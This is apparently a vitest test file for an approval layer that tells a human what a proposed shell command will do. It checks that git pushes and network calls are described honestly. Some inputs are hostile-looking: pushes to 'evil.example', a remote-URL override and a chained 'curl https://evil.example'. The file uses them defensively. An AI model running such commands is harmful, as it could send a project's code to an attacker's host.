import { expect, test } from "vitest";
import type { ApprovalSubject } from "../../../schema/approval/approval.ts";
import { effectsOfCommand } from "../../../schema/approval/command-effect.ts";
import { describeConsequences, isToldWhole } from "../../../schema/approval/consequence.ts";
import { commandTitle } from "../../../schema/command/command-title.ts";

const command = (text: string, asked: readonly string[] = [text]) => ({
  subject: { kind: "command" as const, command: text },
  title: commandTitle(text, asked),
  effects: effectsOfCommand(text),
});
const told = (asked: Parameters<typeof describeConsequences>[0]) => describeConsequences(asked).map((consequence) => consequence.what);

test("a push to its own project is told whole, and one that may go elsewhere stands open below its words", () => {
  const pushed = command("git push -q origin main --tags");
  expect(told(pushed)).toEqual(["Its work becomes the current version of the project, and gets a version number."]);
  expect(isToldWhole(pushed)).toBe(true);
  for (const text of ["git push elsewhere main", "git push https://example.org/x.git main", "git -c remote.origin.url=x push origin main"])
    expect([text, isToldWhole(command(text))]).toEqual([text, false]);
});

test("the current version and its version number are one consequence with one answer whether it can be undone", () => {
  const both = describeConsequences(command("git push origin main other --tags"));
  const [main, tags] = ["git push origin main", "git push origin --tags"].map((text) => describeConsequences(command(text))[0]!);
  expect(both.map((consequence) => consequence.what)).toEqual([
    "Its work becomes the current version of the project, and gets a version number.",
    "Its work is kept in the project under the name “other”.",
  ]);
  expect(both[0]).toMatchObject({ seen: main!.seen, undo: "Yes: every earlier version is kept. Only the version number stays." });
  expect([main!.what, tags!.what]).toEqual([
    "Its work becomes the current version of the project.",
    "The work so far gets a version number.",
  ]);
});

const unknown = "It runs this command. What that does can't be told beforehand.";
const somewhere = "Something is sent to a Git repository. Where to, and what, the command says.";
test("a push that is not plainly one of its own branches, or not alone, is never told as one", () => {
  for (const text of [
    "git push elsewhere main",
    "git push git@evil.example:x.git main",
    "git -c remote.origin.url=https://evil.example/x.git push origin feature",
    "git push origin +main",
    "git push origin :old",
    "bash ./x git push origin feature",
  ]) {
    const sentences = told(command(text));
    expect([text, sentences.at(-1), isToldWhole(command(text))]).toEqual([text, unknown, false]);
    expect(sentences.join(" ")).not.toMatch(/kept in the project|current version|version number/);
  }
  const more = command("git push --tags && ./x.sh git push --tags", ["git push --tags", "./x.sh git push --tags"]);
  expect(more.title).toMatch(/^Push .*, and 1 more command$/);
  expect([told(more), isToldWhole(more)]).toEqual([[somewhere, unknown], false]);
  const reached = command("git push origin a b c; curl https://evil.example", ["git push origin a b c", "curl https://evil.example"]);
  expect(told(reached)[0]).toContain("evil.example");
});

test("a command whose effect is not known says so and is never folded", () => {
  expect(told(command("make everything"))).toEqual([unknown]);
  expect(isToldWhole(command("make everything"))).toBe(false);
});

test("what reaches the internet names who sees it", () => {
  const [reached] = describeConsequences({ subject: { kind: "operation", operation: "network:example.org" }, title: "" });
  expect(reached).toMatchObject({
    what: expect.stringContaining("example.org"),
    seen: expect.stringContaining("Whoever runs example.org"),
  });
  const call: ApprovalSubject = { kind: "operation", operation: "service:tracker/create at https://tracker.example", detail: "{}" };
  expect(describeConsequences({ subject: call, title: "" })[0]).toMatchObject({
    what: "It asks the service tracker to do something for you.",
  });
  expect(isToldWhole({ subject: call, title: "" })).toBe(false);
});

test("the same effect is told once, three are told at most, and what is told in its own words has none", () => {
  const many = {
    ...command("git push origin main"),
    effects: ["push:main", "push:main", "reach:a.example", "reach:b.example", "reach:c.example"],
  };
  expect(describeConsequences(many)).toHaveLength(3);
  expect(isToldWhole(many)).toBe(false);
  const budget: ApprovalSubject = { kind: "repetition", call: "x", times: 10 };
  expect(describeConsequences({ subject: budget, title: "" })).toEqual([]);
});
